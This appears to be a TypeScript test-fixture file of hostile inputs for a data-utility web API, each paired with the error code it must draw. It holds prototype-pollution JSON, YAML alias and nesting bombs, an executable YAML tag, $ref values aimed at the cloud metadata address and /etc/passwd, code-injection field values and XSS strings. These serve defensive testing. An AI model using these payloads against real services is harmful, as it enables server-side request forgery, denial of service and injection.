import assert from 'node:assert/strict'
import { ERROR_STATUS } from '../src/core/errors.ts'
import type { AnyOperation } from '../src/core/operation.ts'
import { type Envelope, JsonText, type SocketResponse } from './helpers.ts'

type JsonSchema = Record<string, unknown>

/** A body sent to an operation, and the answer it must get. */
export interface HostileInput {
  /** What the body is, for a test's name. */
  name: string
  operation: string
  body: Record<string, unknown>
  status: number
  /** The error's code; '' for a 200. */
  code: string
  /** A field the error's details must name (itself or one of its items). */
  field?: string
  /** What the error's message must say. */
  message?: RegExp
}

/** Bodies that are not JSON, or JSON that would pollute a prototype: 400 INVALID_JSON for every operation. */
export const MALFORMED_BODIES: ReadonlyArray<string | Buffer> = [
  '{',
  '',
  '{"a":1}}',
  Buffer.from([0x7b, 0x22, 0xff, 0x22, 0x3a, 0x31, 0x7d]),
  '{"__proto__":{"polluted":1}}',
  '{"constructor":{"prototype":{"polluted":1}}}',
]

/** JSON bodies that are not an object: 400 VALIDATION_ERROR for every operation. */
export const NOT_OBJECT_BODIES: readonly string[] = ['[]', '"text"', '1', 'null', 'true']

export const properties = (operation: AnyOperation) => operation.input.properties as Record<string, JsonSchema>
const required = (operation: AnyOperation) => (operation.input.required as string[] | undefined) ?? []

export const accepts = (schema: JsonSchema, type: string): boolean =>
  schema.type === type || (Array.isArray(schema.anyOf) && (schema.anyOf as JsonSchema[]).some((branch) => accepts(branch, type)))

/** A JSON object for a field that takes no object; undefined for fields that take any JSON value. */
function wrongValue(schema: JsonSchema): unknown {
  const takesAnything = !('type' in schema) && !('anyOf' in schema) && !('enum' in schema) && !('const' in schema)
  return takesAnything || accepts(schema, 'object') ? undefined : { nested: true }
}

/** Matches text that holds every one of `parts`, in any order. */
const holdsAll = (parts: string[]) => new RegExp(parts.map((part) => `(?=[\\s\\S]*${part})`).join(''))

/**
 * An operation's first example with one thing wrong at a time: an unknown field, many, each field
 * of the wrong type, each required field missing, each bound passed, a lone surrogate in the input.
 */
export function invalidFieldInputs(operation: AnyOperation): HostileInput[] {
  const valid = operation.examples[0].input as Record<string, unknown>
  const refused = (name: string, body: Record<string, unknown>, expected: Pick<HostileInput, 'field' | 'message'>): HostileInput => ({
    name,
    operation: operation.name,
    body,
    status: 400,
    code: 'VALIDATION_ERROR',
    ...expected,
  })
  const inputs: HostileInput[] = [refused('an unknown field', { ...valid, definitelyNotAField: 1 }, { message: /definitelyNotAField is not a known field/ })]
  // With many extra keys TypeBox reports them under another keyword, and stops at eight: those are named.
  const extras = Array.from({ length: 10 }, (_, index) => `extra${index}`)
  inputs.push(
    refused(
      'ten unknown fields',
      { ...valid, ...Object.fromEntries(extras.map((field, index) => [field, index])) },
      {
        message: holdsAll(extras.slice(0, 8).map((field) => `${field} is not a known field`)),
      },
    ),
  )
  for (const [field, schema] of Object.entries(properties(operation))) {
    const value = wrongValue(schema)
    if (value !== undefined) inputs.push(refused(`${field} of the wrong type`, { ...valid, [field]: value }, { field }))
  }
  for (const field of required(operation)) {
    const { [field]: _omitted, ...rest } = valid
    inputs.push(refused(`without ${field}`, rest, { message: new RegExp(`${field} is required`) }))
  }
  for (const [field, schema] of Object.entries(properties(operation))) {
    const bounded: Array<[string, unknown]> = []
    if (typeof schema.maximum === 'number') bounded.push(['above its maximum', schema.maximum + 1])
    if (typeof schema.minimum === 'number') bounded.push(['below its minimum', schema.minimum - 1])
    if (typeof schema.maxLength === 'number' && schema.maxLength <= 20_000) bounded.push(['too long', 'a'.repeat(schema.maxLength + 1)])
    if (typeof schema.maxItems === 'number') {
      const item = Array.isArray(valid[field]) ? (valid[field] as unknown[])[0] : 'x'
      bounded.push(['with too many items', Array.from({ length: schema.maxItems + 1 }, () => item)])
    }
    for (const [what, value] of bounded) inputs.push(refused(`${field} ${what}`, { ...valid, [field]: value }, { field }))
  }
  // An operation that allows lone surrogates (unicode inspects them) tests them itself.
  const input = properties(operation).input
  if (!operation.allowLoneSurrogates && input && accepts(input, 'string')) {
    inputs.push({
      name: 'a lone surrogate in the input',
      operation: operation.name,
      body: { ...valid, input: 'ab\udc00cd' },
      status: 422,
      code: 'INVALID_INPUT',
      message: /lone surrogate/,
    })
  }
  return inputs
}

const deepArray = (depth: number) => new JsonText('['.repeat(depth) + ']'.repeat(depth))
const deepObject = (depth: number) => new JsonText(`${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`)
const hostile = (name: string, operation: string, body: Record<string, unknown>, status: number, code = ''): HostileInput => ({
  name,
  operation,
  body,
  status,
  code,
})

/** Nine lists of nine `lol`s, each list made of nine aliases of the one before. */
const BILLION_LAUGHS = [
  'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]',
  ...Array.from({ length: 8 }, (_, i) => {
    const [name, previous] = [String.fromCharCode(98 + i), String.fromCharCode(97 + i)]
    return `${name}: &${name} [${Array.from({ length: 9 }, () => `*${previous}`).join(',')}]`
  }),
].join('\n')

/** An SSH wire string (RFC 4251 §5): its length, then its bytes. */
const sshString = (bytes: Buffer | string) => {
  const value = Buffer.from(bytes)
  const length = Buffer.alloc(4)
  length.writeUInt32BE(value.length)
  return Buffer.concat([length, value])
}
const sshUint32 = (value: number) => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value)
  return bytes
}
const opensshPem = (...parts: Buffer[]) =>
  `-----BEGIN OPENSSH PRIVATE KEY-----\n${Buffer.concat([Buffer.from('openssh-key-v1\0', 'latin1'), ...parts]).toString('base64')}\n-----END OPENSSH PRIVATE KEY-----\n`
/** RFC 8037's Ed25519 public key as an SSH blob. */
const ED25519_BLOB = Buffer.concat([
  sshString('ssh-ed25519'),
  sshString(Buffer.from('d75a980182b10ab7d54bfed3c964073a0ee172f3daa62325af021a68f707511a', 'hex')),
])
/** An Ed25519 key encrypted with PBKDF2 of 5,000,000 iterations (openssl pkcs8 -topk8 -v2 aes-256-cbc -iter 5000000). */
const PBKDF2_5M_KEY =
  '-----BEGIN ENCRYPTED PRIVATE KEY-----\nMIGcMFgGCSqGSIb3DQEFDTBLMCoGCSqGSIb3DQEFDDAdBAhHAScMH/ibpQIDTEtA\nMAwGCCqGSIb3DQIJBQAwHQYJYIZIAWUDBAEqBBBDcDRPCIHCbG9d4aJcHfOoBEAS\n8l76YbcEkdGoBEcwfuwkHbEz8pr15msqIj+KPNRlSi1iiB0MiSfHs3arVtpk7L8a\n/ir8e86JHOoNjdbUDUUr\n-----END ENCRYPTED PRIVATE KEY-----\n'
/** That key with its outer length written in 5 octets, leading zeros first: BER that OpenSSL reads, DER does not allow. */
const PBKDF2_5M_BER_KEY = (() => {
  const der = Buffer.from(PBKDF2_5M_KEY.replace(/-----[^-]+-----|\s/g, ''), 'base64')
  const body = der.subarray(2 + (der[1] & 0x7f))
  const ber = Buffer.concat([Buffer.from([0x30, 0x85, 0, 0, 0, body.length >> 8, body.length & 0xff]), body])
  return `-----BEGIN ENCRYPTED PRIVATE KEY-----\n${ber.toString('base64')}\n-----END ENCRYPTED PRIVATE KEY-----\n`
})()

/** DER by hand (ITU-T X.690), for certificates no tool would make. */
export function der(tag: number, ...parts: Buffer[]): Buffer {
  const body = Buffer.concat(parts)
  const n = body.length
  const length = n < 0x80 ? [n] : n < 0x100 ? [0x81, n] : n < 0x10000 ? [0x82, n >> 8, n & 0xff] : [0x83, n >> 16, (n >> 8) & 0xff, n & 0xff]
  return Buffer.concat([Buffer.from([tag, ...length]), body])
}
const ECDSA_SHA256 = Buffer.from('300a06082a8648ce3d040302', 'hex')
const P256_SPKI = Buffer.from(
  '3059301306072a8648ce3d020106082a8648ce3d030107034200041194317f7606cad5d27540157d382a89ed5e462c4cf9db1b627b0a25e6278e7835e6b8a5861ddac3054c8d2fbfc17c16bd323c11aa12b44a7e66ebc47fd5eae8',
  'hex',
)
/** A v3 certificate with these DNS names and key; its signature is not a real one (parse reports it, never trusts it). */
export function certificateWithNames(dnsNames: string[], spki: Buffer = P256_SPKI): Buffer {
  const name = der(0x30, der(0x31, der(0x30, Buffer.from('0603550403', 'hex'), der(0x0c, Buffer.from('hostile')))))
  const time = (text: string) => der(0x17, Buffer.from(text))
  const san = der(0x30, Buffer.from('0603551d11', 'hex'), der(0x04, der(0x30, Buffer.concat(dnsNames.map((dns) => der(0x82, Buffer.from(dns, 'latin1')))))))
  const tbs = der(
    0x30,
    der(0xa0, Buffer.from('020102', 'hex')),
    Buffer.from('020101', 'hex'),
    ECDSA_SHA256,
    name,
    der(0x30, time('260101000000Z'), time('270101000000Z')),
    name,
    spki,
    der(0xa3, der(0x30, san)),
  )
  return der(0x30, tbs, ECDSA_SHA256, der(0x03, Buffer.alloc(72, 1)))
}
const certificatePem = (bytes: Buffer) => `-----BEGIN CERTIFICATE-----\n${bytes.toString('base64')}\n-----END CERTIFICATE-----\n`
/** SEQUENCEs nested `depth` deep, built from the inside out. */
function nestedSequences(depth: number): Buffer {
  const headers: Buffer[] = []
  let length = 0
  for (let level = 0; level < depth; level++) {
    const header = Buffer.from(
      length < 0x80
        ? [0x30, length]
        : length < 0x100
          ? [0x30, 0x81, length]
          : length < 0x10000
            ? [0x30, 0x82, length >> 8, length & 0xff]
            : [0x30, 0x83, length >> 16, (length >> 8) & 0xff, length & 0xff],
    )
    headers.push(header)
    length += header.length
  }
  return Buffer.concat(headers.reverse())
}
const LYING_LENGTH = (() => {
  const bytes = certificateWithNames(['a.example'])
  bytes[2] = 0xff
  return bytes
})()

/** A PNG whose header claims 6000×6000 pixels, followed by nothing that decodes: a decompression bomb's header. */
const PNG_BOMB = (() => {
  const bytes = Buffer.alloc(64)
  Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13]).copy(bytes)
  bytes.write('IHDR', 12, 'latin1')
  bytes.writeUInt32BE(6000, 16)
  bytes.writeUInt32BE(6000, 20)
  return bytes.toString('base64')
})()

/** Payloads built to hurt: amplification, deep nesting, oversized counts, impossible values. */
export const HOSTILE_PAYLOADS: readonly HostileInput[] = [
  hostile('YAML alias bomb (billion laughs)', 'yaml-json', { input: BILLION_LAUGHS }, 422, 'LIMIT_EXCEEDED'),
  hostile('YAML nested 5,000 flow sequences', 'yaml-json', { input: '['.repeat(5000) + ']'.repeat(5000) }, 422, 'LIMIT_EXCEEDED'),
  hostile('YAML nested 5,000 flow maps', 'yaml-json', { input: `${'{a: '.repeat(5000)}1${'}'.repeat(5000)}` }, 422, 'LIMIT_EXCEEDED'),
  hostile(
    'YAML nested 300 block maps',
    'yaml-json',
    { input: `${Array.from({ length: 300 }, (_, i) => `${' '.repeat(i)}k${i}:`).join('\n')} 1` },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile('YAML undefined alias', 'yaml-json', { input: 'a: *nowhere' }, 422, 'INVALID_INPUT'),
  hostile('YAML duplicate keys', 'yaml-json', { input: 'a: 1\na: 2' }, 422, 'INVALID_INPUT'),
  hostile('YAML executable tag', 'yaml-json', { input: 'a: !!js/function "function(){ return process.exit(1) }"' }, 200),
  hostile('JSON nested 100,000 deep to jsonToYaml', 'yaml-json', { action: 'jsonToYaml', input: deepArray(100_000) }, 422, 'LIMIT_EXCEEDED'),
  hostile('JSON nested 101 deep to jsonToYaml', 'yaml-json', { action: 'jsonToYaml', input: deepObject(101) }, 422, 'LIMIT_EXCEEDED'),
  hostile(
    'JSON nested 100,000 deep to jsonToCsv',
    'csv-json',
    { action: 'jsonToCsv', input: new JsonText(`[{"a":${deepArray(100_000).text}}]`) },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile(
    'JSON nested 100,000 deep to the pipeline',
    'pipeline',
    { input: deepArray(100_000), steps: [{ operation: 'yaml-json', action: 'jsonToYaml' }] },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile(
    'CSV that amplifies into huge JSON',
    'csv-json',
    {
      input: `${Array.from({ length: 1000 }, (_, i) => `a_column_name_long_enough_to_be_repeated_in_every_row_${i}`).join(',')}\n${Array.from({ length: 600 }, () => ','.repeat(999)).join('\n')}`,
    },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile(
    'JSON Patch copying the whole document into itself 40 times (doubling it each time)',
    'json-patch',
    { input: { text: 'x'.repeat(1000) }, patch: Array.from({ length: 40 }, (_, i) => ({ op: 'copy', from: '', path: `/copy${i}` })) },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile(
    'JSON Patch of 10,001 operations',
    'json-patch',
    { input: {}, patch: Array.from({ length: 10_001 }, () => ({ op: 'test', path: '', value: {} })) },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile('JSON nested 100,000 deep to json-patch', 'json-patch', { input: deepArray(100_000), patch: [] }, 422, 'LIMIT_EXCEEDED'),
  hostile(
    'JSON Patch nesting past 100 levels by a copy',
    'json-patch',
    { input: deepObject(60), patch: [{ op: 'copy', from: '/a', path: `${'/a'.repeat(59)}/b` }] },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile(
    'JSON Patch writing __proto__ (in JSON text) as an ordinary key',
    'json-patch',
    { input: '{"__proto__":{}}', patch: '[{"op":"add","path":"/__proto__/polluted","value":1}]' },
    200,
  ),
  hostile(
    'JSON Patch with a leading zero in an array index',
    'json-patch',
    { input: [1, 2], patch: [{ op: 'test', path: '/01', value: 2 }] },
    422,
    'INVALID_INPUT',
  ),
  hostile('CSV unclosed quote', 'csv-json', { input: 'a,b\n"1,2\n3,4' }, 422, 'INVALID_INPUT'),
  hostile('CSV __proto__ header is an ordinary key', 'csv-json', { input: '__proto__,constructor\n1,2' }, 200),
  hostile(
    'morse of 1 MiB of zeros amplifies past the output limit',
    'morse',
    { input: '0'.repeat(1_000_000), letterSeparator: '        ', dot: '........', dash: '--------' },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile('base-convert of 10,001 digits', 'base-convert', { input: '9'.repeat(10_001) }, 422, 'LIMIT_EXCEEDED'),
  hostile('random-string length × count over the cap', 'random-string', { length: 4096, count: 1000 }, 400, 'VALIDATION_ERROR'),
  hostile('random-number unique past the range', 'random-number', { min: 1, max: 10, count: 11, unique: true }, 400, 'VALIDATION_ERROR'),
  hostile('uuid count too large', 'uuid', { count: 1_000_000 }, 400, 'VALIDATION_ERROR'),
  hostile('password length too large', 'password', { length: 1_000_000 }, 400, 'VALIDATION_ERROR'),
  hostile(
    'password-hash verify of sha512-crypt naming the specification’s 999,999,999 rounds',
    'password-hash',
    { action: 'verify', input: 'x', hash: `$6$rounds=999999999$salt$${'a'.repeat(86)}` },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile(
    'password-hash sha512-crypt of 4,096 bytes at 1,000,000 rounds',
    'password-hash',
    { input: 'x'.repeat(4096), algorithm: 'sha512-crypt', rounds: 1_000_000 },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile(
    'password-hash verify of a $6$ hash one character short',
    'password-hash',
    { action: 'verify', input: 'x', hash: `$6$salt$${'a'.repeat(85)}` },
    422,
    'INVALID_INPUT',
  ),
  { ...hostile('htpasswd user name with a colon', 'htpasswd', { username: 'a:b', password: 'x' }, 400, 'VALIDATION_ERROR'), field: 'username' },
  { ...hostile('htpasswd user name with a newline', 'htpasswd', { username: 'a\nb:$apr1$', password: 'x' }, 400, 'VALIDATION_ERROR'), field: 'username' },
  hostile(
    'htpasswd verify of a bcrypt line of cost 31',
    'htpasswd',
    { action: 'verify', password: 'x', input: `u:$2y$31$${'C'.repeat(53)}` },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile(
    'htpasswd verify of a bcrypt line one character short',
    'htpasswd',
    { action: 'verify', password: 'x', input: `u:$2y$05$${'C'.repeat(52)}` },
    422,
    'INVALID_INPUT',
  ),
  hostile('htpasswd verify of a DES crypt line', 'htpasswd', { action: 'verify', password: 'x', input: 'u:rOVMBaE2bF5ec' }, 422, 'INVALID_INPUT'),
  hostile(
    'htpasswd verify of a file of 87,000 empty users, the one asked for last',
    'htpasswd',
    { action: 'verify', username: 'last', password: 'myPassword', input: `${':\n'.repeat(87_000)}last:{SHA}VBPuJHI7uixaa6LQGWx4s+5GKNE=` },
    200,
  ),
  hostile(
    'htpasswd sha256-crypt at 1,000,000 rounds of a 4,096-byte password',
    'htpasswd',
    { username: 'u', password: 'x'.repeat(4096), algorithm: 'sha256-crypt', rounds: 1_000_000 },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile('lorem-ipsum paragraphs past the unit cap', 'lorem-ipsum', { unit: 'paragraphs', count: 101 }, 400, 'VALIDATION_ERROR'),
  hostile('ip-address unique past a /30', 'ip-address', { cidr: '10.0.0.0/30', count: 5, unique: true }, 400, 'VALIDATION_ERROR'),
  hostile(
    'text-distance of two texts of 20,000 units each, past the cell limit',
    'text-distance',
    { input: 'a'.repeat(20_000), compareTo: 'b'.repeat(20_000) },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile(
    'text-distance of a text of 400,000 characters',
    'text-distance',
    { input: 'ab'.repeat(200_000), compareTo: '', metric: 'hamming' },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile('text-distance hamming of unequal lengths', 'text-distance', { input: 'abc', compareTo: 'ab', metric: 'hamming' }, 422, 'INVALID_INPUT'),
  hostile(
    'text-distance of 200,000 combining marks in a row',
    'text-distance',
    { input: `a${'\u0301\u0316'.repeat(100_000)}`, compareTo: 'a' },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile(
    'text-distance of one grapheme of 500,000 code units, not normalized',
    'text-distance',
    { input: `a${'\u0301'.repeat(499_999)}`, compareTo: 'a', normalize: 'none' },
    200,
  ),
  hostile(
    'string-escape of 250,000 emoji as C octal escapes, 16 characters each',
    'string-escape',
    { input: '😀'.repeat(250_000), language: 'c', asciiOnly: true },
    200,
  ),
  hostile(
    'string-escape unescape of one C hex escape of 200,000 digits',
    'string-escape',
    { input: `\\x${'0'.repeat(200_000)}41`, language: 'c', action: 'unescape' },
    200,
  ),
  hostile(
    'string-escape unescape of 100,000 escaped lone surrogates',
    'string-escape',
    { input: '\\ud800'.repeat(100_000), action: 'unescape' },
    422,
    'INVALID_INPUT',
  ),
  hostile('string-escape of NUL as a shell argument', 'string-escape', { input: 'a\u0000b', language: 'shell' }, 422, 'INVALID_INPUT'),
  {
    ...hostile('string-escape with a quote the language has not', 'string-escape', { input: 'x', language: 'json', quote: 'single' }, 400, 'VALIDATION_ERROR'),
    field: 'quote',
  },
  hostile('datetime adding 10^9 years', 'datetime', { input: '2024-01-01', action: 'add', duration: '1000000000 years' }, 422, 'INVALID_INPUT'),
  {
    ...hostile(
      'datetime adding a duration of 20 digits',
      'datetime',
      { input: '2024-01-01', action: 'add', duration: 'P99999999999999999999Y' },
      422,
      'INVALID_INPUT',
    ),
    message: /duration 'P9+Y' is not a valid duration/,
  },
  hostile('datetime of a Unix timestamp', 'datetime', { input: '1700000000' }, 422, 'INVALID_INPUT'),
  hostile('datetime with a critical unknown annotation', 'datetime', { input: '1970-01-01T00:00[UTC][!foo=bar]' }, 422, 'INVALID_INPUT'),
  {
    ...hostile('datetime in an unknown time zone', 'datetime', { input: '2024-01-01T00:00', timezone: 'Mars/Olympus_Mons' }, 400, 'VALIDATION_ERROR'),
    field: 'timezone',
  },
  hostile(
    'datetime businessDays over 1,000,000 days',
    'datetime',
    { input: '-271821-04-19', action: 'businessDays', end: '+275760-09-13' },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile(
    'datetime adding 10,000 working days of one a week, past 1,000 holidays',
    'datetime',
    {
      input: '2024-01-01',
      action: 'businessDays',
      days: 10_000,
      weekend: [1, 2, 3, 4, 5, 6],
      holidays: Array.from({ length: 1000 }, (_, index) => `${2100 + Math.floor(index / 12)}-${String((index % 12) + 1).padStart(2, '0')}-01`),
    },
    200,
  ),
  hostile('timestamp beyond the representable range', 'timestamp', { input: 9e15, unit: 'milliseconds' }, 422, 'INVALID_INPUT'),
  hostile('timestamp impossible date', 'timestamp', { input: '2023-02-30' }, 422, 'INVALID_INPUT'),
  { ...hostile('units of a number of 101 digits', 'units', { input: `${'7'.repeat(101)} m` }, 400, 'VALIDATION_ERROR'), field: 'input' },
  { ...hostile('units of 1e999999999 metres', 'units', { input: '1e999999999 m', to: 'all' }, 400, 'VALIDATION_ERROR'), field: 'input' },
  { ...hostile('units of 1e-999999999 metres', 'units', { input: '1e-999999999 m', to: 'nm' }, 400, 'VALIDATION_ERROR'), field: 'input' },
  hostile('units answering past the largest JSON number', 'units', { input: '1e300 QB', to: 'bit' }, 422, 'LIMIT_EXCEEDED'),
  hostile('units below absolute zero', 'units', { input: '-300 °C', to: 'K' }, 422, 'INVALID_INPUT'),
  hostile('units of two quantities', 'units', { input: '1 MB', to: 'kg' }, 422, 'INVALID_INPUT'),
  hostile('units of an ISO 8601 duration in years', 'units', { input: 'P1Y', to: 'd' }, 422, 'INVALID_INPUT'),
  hostile('units of a duration of 66 parts, all 50 digits', 'units', { input: '1h '.repeat(66).trim(), to: 'all', significantDigits: 50 }, 200),
  hostile('units with a unit name of 190 letters', 'units', { input: `1 ${'x'.repeat(190)}` }, 422, 'INVALID_INPUT'),
  hostile('user-agent of 8,192 characters, 630 nested Mozilla/5.0 (', 'user-agent', { input: 'Mozilla/5.0 ('.repeat(630) }, 200),
  hostile('user-agent of 8,192 parentheses', 'user-agent', { input: '('.repeat(8192) }, 200),
  hostile('user-agent of 8,000 spaces before curl', 'user-agent', { input: `${' '.repeat(8000)}curl/8.5.0` }, 200),
  hostile('user-agent with no User-Agent and no headers', 'user-agent', {}, 400, 'VALIDATION_ERROR'),
  hostile(
    'user-agent with three Client Hints lists of 93 brands each, near the 1,024-character limit',
    'user-agent',
    {
      input: 'x',
      headers: Object.fromEntries(
        ['sec-ch-ua', 'sec-ch-ua-full-version-list', 'sec-ch-ua-form-factors'].map((name) => [name, '"a";v="1", '.repeat(93).slice(0, -2)]),
      ),
    },
    200,
  ),
  {
    ...hostile('user-agent with a header it does not read', 'user-agent', { headers: { cookie: 'session=1' } }, 400, 'VALIDATION_ERROR'),
    field: 'headers.cookie',
  },
  hostile(
    'user-agent with eleven headers',
    'user-agent',
    { headers: Object.fromEntries(Array.from({ length: 11 }, (_, i) => [`sec-ch-ua-${i}`, '?1'])) },
    400,
    'VALIDATION_ERROR',
  ),
  hostile(
    'user-agent with a header value of 1,025 characters',
    'user-agent',
    { headers: { 'sec-ch-ua-model': `"${'m'.repeat(1023)}"` } },
    400,
    'VALIDATION_ERROR',
  ),
  hostile(
    'user-agent with an unterminated structured string',
    'user-agent',
    { headers: { 'sec-ch-ua-platform': `"${'w'.repeat(1000)}` } },
    422,
    'INVALID_INPUT',
  ),
  hostile('user-agent with a structured list of 500 empty members', 'user-agent', { headers: { 'sec-ch-ua': ','.repeat(500) } }, 422, 'INVALID_INPUT'),
  hostile('hash unknown algorithm', 'hash', { input: 'x', algorithm: 'sha257' }, 400, 'VALIDATION_ERROR'),
  hostile('hash shake128 without a length', 'hash', { input: 'x', algorithm: 'shake128' }, 400, 'VALIDATION_ERROR'),
  {
    ...hostile('hash a length with a fixed-size algorithm', 'hash', { input: 'x', algorithm: 'sha256', length: 256 }, 400, 'VALIDATION_ERROR'),
    field: 'length',
  },
  hostile('hash 1 MiB through SHAKE256 with the longest output', 'hash', { input: 'a'.repeat(1_000_000), algorithm: 'shake256', length: 16_384 }, 200),
  {
    ...hostile('checksum unknown CRC name of the longest length', 'checksum', { input: 'x', algorithm: 'Q'.repeat(64) }, 400, 'VALIDATION_ERROR'),
    field: 'algorithm',
  },
  {
    ...hostile(
      'checksum CRC parameters wider than 64 bits',
      'checksum',
      { input: 'x', crc: { width: 82, poly: '1', refin: true, refout: true } },
      400,
      'VALIDATION_ERROR',
    ),
    field: 'crc.width',
  },
  {
    ...hostile(
      'checksum a polynomial wider than its width',
      'checksum',
      { input: 'x', crc: { width: 3, poly: 'ffff', refin: false, refout: false } },
      400,
      'VALIDATION_ERROR',
    ),
    field: 'crc.poly',
  },
  {
    ...hostile(
      'checksum both a name and parameters',
      'checksum',
      { input: 'x', algorithm: 'CRC-32', crc: { width: 8, poly: '7', refin: false, refout: false } },
      400,
      'VALIDATION_ERROR',
    ),
    field: 'crc',
  },
  hostile('checksum of 1 MiB through the 82-bit CRC', 'checksum', { input: 'a'.repeat(1_000_000), algorithm: 'CRC-82/DARC' }, 200),
  hostile(
    'checksum of 64 KiB through every algorithm, identifying a value',
    'checksum',
    { input: 'a'.repeat(64 * 1024), algorithm: 'all', expected: '0xcbf43926' },
    200,
  ),
  {
    ...hostile('checksum of 1 MiB through every algorithm', 'checksum', { input: 'a'.repeat(1_000_000), algorithm: 'all' }, 422, 'LIMIT_EXCEEDED'),
    message: /all reads at most 65,536 bytes/,
  },
  hostile('slug of 1 MiB of separators', 'slug', { input: ' -'.repeat(500_000) }, 200),
  hostile('half a million empty lines in natural order', 'lines', { input: '\n'.repeat(500_000), compare: 'natural' }, 200),
  hostile('100,000 distinct lines counted', 'lines', { input: Array.from({ length: 100_000 }, (_, i) => `${i}`).join('\n'), action: 'count' }, 200),
  { ...hostile('an ill-formed locale tag', 'lines', { input: 'a', locale: 'en_US' }, 400, 'VALIDATION_ERROR'), field: 'locale' },
  { ...hostile('a set action without compareTo', 'lines', { input: 'a', action: 'union' }, 400, 'VALIDATION_ERROR'), field: 'compareTo' },
  { ...hostile('compareTo for an action that takes none', 'lines', { input: 'a', compareTo: 'b' }, 400, 'VALIDATION_ERROR'), field: 'compareTo' },
  hostile('text-stats of 1 MiB of sentence terminators, a boundary every two characters', 'text-stats', { input: '. '.repeat(500_000), topWords: 100 }, 200),
  hostile('text-stats of 340,000 CJK characters, the slowest words to find', 'text-stats', { input: '東京に住んでいます'.repeat(37_000), topWords: 100 }, 200),
  hostile('text-stats of one grapheme of 500,000 combining marks', 'text-stats', { input: `a${'\u0301'.repeat(500_000)}` }, 200),
  hostile('text-stats with a locale that is no BCP 47 tag', 'text-stats', { input: 'x', locale: 'not a locale' }, 400, 'VALIDATION_ERROR'),
  hostile('json-schema with a schema nested 100,000 deep', 'json-schema', { input: 1, schema: deepObject(100_000) }, 422, 'LIMIT_EXCEEDED'),
  hostile('json-schema with an instance nested 100,000 deep', 'json-schema', { input: deepArray(100_000), schema: {} }, 422, 'LIMIT_EXCEEDED'),
  hostile(
    'json-schema $ref to the cloud metadata address: refused, never fetched',
    'json-schema',
    { input: 1, schema: { $ref: 'http://169.254.169.254/latest/meta-data/' } },
    422,
    'INVALID_INPUT',
  ),
  hostile('json-schema $ref to a file: refused, never read', 'json-schema', { input: 1, schema: { $ref: 'file:///etc/passwd' } }, 422, 'INVALID_INPUT'),
  hostile('json-schema $ref to itself, recursing without end', 'json-schema', { input: 1, schema: { $ref: '#' } }, 422, 'LIMIT_EXCEEDED'),
  hostile(
    'json-schema uniqueItems over 20,000 objects',
    'json-schema',
    { input: Array.from({ length: 20_000 }, (_, i) => ({ id: i, name: `item ${i}` })), schema: { uniqueItems: true } },
    200,
  ),
  hostile('json-schema const of an object with a valueOf member', 'json-schema', { input: { valueOf: null }, schema: { const: { valueOf: null } } }, 200),
  hostile('json-types with a sample nested 100,000 deep', 'json-types', { input: deepArray(100_000) }, 422, 'LIMIT_EXCEEDED'),
  hostile('json-types with JSON text nested 100,000 deep', 'json-types', { input: `${'['.repeat(100_000)}${']'.repeat(100_000)}` }, 422, 'LIMIT_EXCEEDED'),
  hostile(
    'json-types of a sample whose $ref names the cloud metadata address: data, never fetched',
    'json-types',
    { input: { $ref: 'http://169.254.169.254/latest/meta-data/', next: { $ref: 'file:///etc/passwd' } }, language: 'go' },
    200,
  ),
  hostile(
    'json-types of keys that are no identifier in any language',
    'json-types',
    { input: { '': 1, '1': 2, 'a b': 3, class: 4, __proto__x: 5, 'é€😀': 6 }, language: 'csharp' },
    200,
  ),
  hostile(
    'json-types of 20,000 records as Swift with its helpers',
    'json-types',
    { input: Array.from({ length: 20_000 }, (_, i) => ({ id: i, name: `n${i}`, at: null })), language: 'swift', justTypes: false },
    200,
  ),
  hostile('json-types with multipleSamples and no samples', 'json-types', { input: [], multipleSamples: true }, 422, 'INVALID_INPUT'),
  {
    ...hostile('json-types with a root name that would inject code', 'json-types', { input: 1, rootName: 'Root{}; evil()' }, 400, 'VALIDATION_ERROR'),
    field: 'rootName',
  },
  {
    ...hostile(
      'json-types with a package name that would inject code',
      'json-types',
      { input: 1, language: 'go', packageName: 'x\nimport "os"' },
      400,
      'VALIDATION_ERROR',
    ),
    field: 'packageName',
  },
  hostile(
    'markdown of one link reference of 400,000 characters used 100,000 times, past the output limit',
    'markdown',
    { input: `[a]: /${'u'.repeat(400_000)}\n\n${'[a]'.repeat(100_000)}` },
    422,
    'LIMIT_EXCEEDED',
  ),
  hostile('markdown toMarkdown of 5,000 nested lists', 'markdown', { input: '<ul><li>'.repeat(5000), action: 'toMarkdown' }, 422, 'LIMIT_EXCEEDED'),
  hostile('markdown toMarkdown of 20,000 nested divs', 'markdown', { input: '<div>'.repeat(20_000), action: 'toMarkdown' }, 422, 'LIMIT_EXCEEDED'),
  hostile('markdown sanitizing raw HTML of 200,000 nested divs', 'markdown', { input: '<div>'.repeat(200_000), html: 'sanitize' }, 422, 'LIMIT_EXCEEDED'),
  hostile('markdown of 800,000 < characters, each escaped', 'markdown', { input: '<'.repeat(800_000) }, 200),
  hostile('markdown of 50,000 nested block quotes', 'markdown', { input: `${'> '.repeat(50_000)}x` }, 200),
  hostile(
    'markdown sanitizing 20,000 scripts and event handlers',
    'markdown',
    { input: '<script>x()</script><img src=x onerror=y()>'.repeat(20_000), html: 'sanitize' },
    200,
  ),
  {
    ...hostile(
      'markdown toMarkdown with a field of toHtml',
      'markdown',
      { input: '<p>x</p>', action: 'toMarkdown', flavor: 'commonmark' },
      400,
      'VALIDATION_ERROR',
    ),
    field: 'flavor',
  },
